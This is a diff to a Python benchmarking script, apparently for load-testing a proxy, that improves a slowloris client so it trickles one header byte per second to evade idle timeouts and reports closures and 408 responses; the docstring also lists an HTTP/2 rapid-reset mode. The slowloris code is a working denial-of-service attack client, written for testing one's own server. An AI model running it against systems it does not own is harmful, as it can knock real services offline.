@@ -1,10 +1,12 @@
 #!/usr/bin/env python3
 """Abusive clients for bench/abuse (standard library only).
 
-  slowloris HOST PORT N SECONDS   hold N connections open, each with an unfinished request head
+  slowloris HOST PORT N SECONDS   hold N connections open, each with an unfinished request head that grows
+                                  by one byte a second; report the ones the proxy closed (and 408s)
   rapid-reset HOST PORT N         HTTP/2 (h2c prior knowledge): N x (HEADERS, RST_STREAM) on one connection
 Prints one line: what was done and how the proxy reacted.
 """
+import selectors
 import socket
 import struct
 import sys
@@ -12,29 +14,52 @@ import time
 
 
 def slowloris(host, port, n, seconds):
-    socks, refused = [], 0
+    """N connections that start a request head and then send one more header byte per second
+    (so an idle timeout alone never fires). Reports how many the proxy closed, how many got a
+    408 first, and how long after its first byte each one was closed."""
+    sel = selectors.DefaultSelector()
+    socks, refused = {}, 0
+    trickle = b"X-Slow: " + b"a" * 4096
     for _ in range(n):
         try:
             s = socket.create_connection((host, port), timeout=2)
             s.sendall(b"GET / HTTP/1.1\r\nHost: abuse\r\n")  # never finished
-            socks.append(s)
+            s.setblocking(False)
+            socks[s] = {"start": time.time(), "sent": 0, "closed": None, "got": b""}
+            sel.register(s, selectors.EVENT_READ)
         except OSError:
             refused += 1
     end = time.time() + seconds
+    next_trickle = time.time() + 1
     while time.time() < end:
-        time.sleep(1)
-    closed = 0
+        for key, _ in sel.select(timeout=0.1):
+            s, st = key.fileobj, socks[key.fileobj]
+            try:
+                data = s.recv(65536)
+            except OSError:
+                data = b""
+            if data:
+                st["got"] += data[:64]
+                continue
+            st["closed"] = time.time()
+            sel.unregister(s)
+        if time.time() >= next_trickle:
+            next_trickle += 1
+            for s, st in socks.items():
+                if st["closed"] is None and st["sent"] < len(trickle):
+                    try:
+                        s.send(trickle[st["sent"]:st["sent"] + 1])
+                        st["sent"] += 1
+                    except OSError:
+                        pass
+    closed = [st for st in socks.values() if st["closed"] is not None]
+    got408 = sum(1 for st in closed if st["got"].startswith(b"HTTP/1.1 408"))
+    times = sorted(st["closed"] - st["start"] for st in closed)
+    spread = (f"; closed after p50 {times[len(times) // 2]:.1f}s max {times[-1]:.1f}s" if times else "")
     for s in socks:
-        try:
-            s.setblocking(False)
-            if s.recv(1) == b"":
-                closed += 1
-        except BlockingIOError:
-            pass
-        except OSError:
-            closed += 1
         s.close()
-    print(f"slowloris: opened {len(socks)} refused {refused} closed-by-proxy {closed} after {seconds}s")
+    print(f"slowloris: opened {len(socks)} refused {refused} closed-by-proxy {len(closed)} (with 408: {got408}) "
+          f"within {seconds}s{spread}")
 
 
 def frame(ftype, flags, stream, payload=b""):
